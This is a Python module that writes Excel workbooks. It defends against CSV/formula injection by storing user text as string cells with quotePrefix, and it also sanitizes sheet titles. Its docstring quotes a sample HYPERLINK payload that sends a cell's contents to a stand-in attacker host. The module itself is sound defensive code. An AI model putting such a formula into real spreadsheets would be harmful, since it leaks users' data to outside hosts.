"""Writing workbooks people open in Excel and LibreOffice (no Django).

Every value a person typed goes into the file as a *text* cell. openpyxl stores any str
that starts with "=" as a formula, so an activity called
`=HYPERLINK("http://evil.example/?"&A1,"open")` would become a live link that leaks the
sheet (CWE-1236, "CSV/formula injection"). OWASP's advice for CSV is to prefix such text
with a quote; an .xlsx has real cell types, so crewplan keeps the text exactly as typed,
marks the cell as a string (`t="inlineStr"`), and for text starting with `=`, `+`, `-`,
`@`, a tab or a CR also sets the cell's `quotePrefix` style: Excel and LibreOffice then
show the text unchanged and keep it text when someone edits the cell, and our own
readers get back the very same name (no quote to strip). Only `Formula` values, which
crewplan builds itself (the budget totals), are written as formulas.

Sheet titles go through `sheet_title()`: Excel refuses `: / \\ ? * [ ]`, more than 31
characters, an empty title, a leading or trailing apostrophe, the reserved "History",
and two sheets whose titles differ only in case.
"""

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_TEXT = 32_767  # characters Excel holds in one cell
MAX_TITLE = 31
_TITLE_FORBIDDEN = re.compile(r"[:\\/?*\[\]]")
_RESERVED_TITLES = {"history"}


class Formula(str):
    """A formula crewplan writes itself, e.g. `Formula("=SUM(F2:Q2)")`; every other str
    is written as text."""


def as_text(value: str) -> str:
    """The text as a cell can hold it: without the control characters XML forbids
    (openpyxl refuses them) and at most 32,767 characters."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)[:MAX_CELL_TEXT]


def put(cell: Any, value: object) -> None:
    """Set a cell: a `Formula` as a formula, any other str as text, the rest as is."""
    if isinstance(value, Formula):
        cell.value = str(value)
        return
    if not isinstance(value, str):
        cell.value = value
        return
    text = as_text(value)
    cell.value = text
    cell.data_type = "s"  # openpyxl made it "f" when it starts with "="
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def append_row(sheet: Any, values: Iterable[object]) -> None:
    """`sheet.append(values)` with every str written as text (see `put`)."""
    cells = []
    for column, value in enumerate(values, start=1):
        cell = Cell(sheet, row=1, column=column)  # append() moves it to the new row
        put(cell, value)
        cells.append(cell)
    sheet.append(cells)


def sheet_title(name: str, taken: Iterable[str] = (), *, fallback: str = "Sheet") -> str:
    """A title Excel and openpyxl accept that no title in `taken` has (compared without
    case): forbidden characters become spaces, runs of spaces one, cut to 31 characters;
    `fallback` when nothing is left; " (2)", " (3)"… when it is taken."""
    cleaned = " ".join(_TITLE_FORBIDDEN.sub(" ", as_text(name)).split())
    cleaned = cleaned[:MAX_TITLE].strip(" '") or fallback
    used = {t.casefold() for t in taken} | _RESERVED_TITLES
    title, number = cleaned, 1
    while title.casefold() in used:
        number += 1
        suffix = f" ({number})"
        title = cleaned[: MAX_TITLE - len(suffix)].rstrip(" '") + suffix
    return title
